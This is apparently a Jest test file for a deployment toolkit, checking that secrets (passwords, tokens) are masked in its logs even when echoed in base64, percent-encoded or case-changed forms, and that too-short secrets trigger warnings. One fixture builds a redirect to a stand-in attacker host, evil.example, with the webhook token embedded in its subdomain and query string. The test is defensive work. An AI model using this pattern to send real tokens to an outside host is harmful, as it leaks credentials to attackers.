import { beforeAll, describe, expect, test } from '@jest/globals'
import { rm } from 'node:fs/promises'
import {
  DRAW_PASSWORD,
  PLATFORM_STATE,
  salesSnapshot,
  TOOLKIT_INPUTS,
} from '../helpers/fake-toolkit.js'
import { useCleanup } from '../helpers/suite.js'
import { type GitServer } from '../helpers/git-server.js'
import { gitServerForSuite, makeWorkspace } from '../helpers/git-snapshot.js'
import { runAsGithub, runCli, type RunResult } from '../helpers/run-action.js'
import { expectNoSecrets, findSecrets } from '../helpers/secrets.js'
import { answer, startWebhookServer, type WebhookServer } from '../helpers/webhook-server.js'
import { expectToSay } from '../helpers/assertions.js'

/** Encoded and case-changed forms of secrets, and secrets too short to mask. */
const captured = (run: RunResult): Record<string, string> => ({
  stdout: run.stdout,
  stderr: run.stderr,
  ...run.files,
})

describe('a toolkit that echoes DRAW_PASSWORD encoded', () => {
  const TOKEN = 'ghs_secretForms2b4d6f8a'
  let server: GitServer
  gitServerForSuite(TOKEN, (started) => (server = started))

  test.each([
    ['on GitHub', 'github'],
    ['on GitLab', 'cli'],
  ])('%s: upper, lower, percent and base64 forms are all masked', async (_name, via) => {
    const repo = `acme/forms-${via}`
    await server.createRepo(repo)
    const workspace = await makeWorkspace([salesSnapshot(server.urlFor(repo))])
    try {
      const options = {
        cwd: workspace,
        inputs: TOOLKIT_INPUTS,
        env: { FAKE_PLATFORM_STATE: PLATFORM_STATE, FAKE_TOOLKIT_ECHO_ENCODED: '1' },
      }
      const run =
        via === 'github'
          ? await runAsGithub('snapshot', { ...options, event: { name: 'schedule' } })
          : await runCli('snapshot', {
              ...options,
              env: { ...options.env, GITLAB_CI: 'true', CI_PIPELINE_SOURCE: 'schedule' },
            })
      expect(run.code).toBe(0)
      // The lines are there, their secrets masked.
      expect(run.stdout).toContain('debug: DRAW_PASSWORD=*** (***)')
      // What is left is base64 of the user name ('admin:') and the bits shared with the bytes
      // around the password: none of the password's own characters.
      expectToSay(
        run.stdout,
        'debug: Authorization: Basic YWRtaW46***M=',
        'debug: ws://h/?p=***&b=eG***eQ==',
      )
      expectNoSecrets(captured(run), [DRAW_PASSWORD, TOKEN])
    } finally {
      await rm(workspace, { recursive: true, force: true })
    }
  })
})

describe('a webhook that redirects to an address built from the token', () => {
  const TOKEN = 'Wh-Token-Mixed-Case-42'
  let webhook: WebhookServer
  const cleanup = useCleanup()
  beforeAll(async () => {
    const base64 = Buffer.from(`bearer:${TOKEN}`).toString('base64')
    webhook = cleanup.track(
      'webhook',
      await startWebhookServer(
        answer(302, 'moved', {
          Location: `https://${TOKEN.toLowerCase()}.evil.example/c?t=${base64}&u=${TOKEN.toUpperCase()}`,
        }),
      ),
    )
  })

  test('the Location is named with every form of the token masked', async () => {
    const run = await runAsGithub('deploy', {
      inputs: {
        'webhook-url': webhook.url,
        'webhook-token': TOKEN,
        'frontend-image': '127.0.0.1:5000/shop/frontend:1',
      },
    })
    expect(run.code).toBe(1)
    expect(webhook.requests).toHaveLength(1)
    expect(run.stdout).toContain('evil.example')
    expectNoSecrets(captured(run), [TOKEN, webhook.url])
  })
})

describe('a secret too short to mask everywhere', () => {
  let webhook: WebhookServer
  const cleanup = useCleanup()
  beforeAll(async () => {
    webhook = cleanup.track('webhook', await startWebhookServer(answer(200)))
  })
  const inputs = (): Record<string, string> => ({
    'webhook-url': webhook.url,
    'webhook-token': 'abc12',
    'frontend-image': '127.0.0.1:5000/shop/abc12-frontend:1',
    'dry-run': 'true',
  })

  test('on GitHub: a warning names the input, and the runner is still told to mask it', async () => {
    const run = await runAsGithub('deploy', { inputs: inputs() })
    expect(run.code).toBe(0)
    expectToSay(
      run.stdout,
      "::warning::The secret 'webhook-token' has fewer than 6 characters: too short to mask without hiding ordinary text. The runner masks it all the same, wherever those characters appear, even inside other words. Use a longer, generated value.",
      '::add-mask::abc12\n',
    )
    expect(findSecrets(captured(run), ['abc12'])).toEqual([])
  })

  test('on the command line: the warning says it is masked only where it stands alone', async () => {
    const run = await runCli('deploy', { inputs: inputs() })
    expect(run.code).toBe(0)
    expect(run.stderr).toContain(
      "Warning: The secret 'webhook-token' has fewer than 6 characters: too short to mask without hiding ordinary text. It is masked only where it stands alone, not inside longer words. Use a longer, generated value.",
    )
    // Standing alone it is masked; as part of the image name's identifier it is kept.
    expectToSay(run.stdout, 'webhook-token: ***', '127.0.0.1:5000/shop/abc12-frontend:1')
    expect(findSecrets(captured(run), ['abc12'])).toEqual([])
  })
})
